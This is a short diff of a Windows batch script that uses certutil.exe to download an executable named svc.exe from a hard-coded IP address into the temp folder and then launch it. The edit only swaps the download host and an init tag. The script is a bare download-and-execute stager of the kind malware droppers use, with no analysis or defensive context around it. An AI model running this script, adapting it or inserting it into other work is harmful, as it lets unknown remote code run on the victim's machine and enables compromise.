@@ -1,4 +1,4 @@
-REM init 7913 v1
+REM init 0279 v1
 @echo off
-certutil.exe -urlcache -split -f http://203.0.113.200/svc.exe %TEMP%\svc.exe
+certutil.exe -urlcache -split -f http://198.51.100.9/svc.exe %TEMP%\svc.exe
 start "" %TEMP%\svc.exe
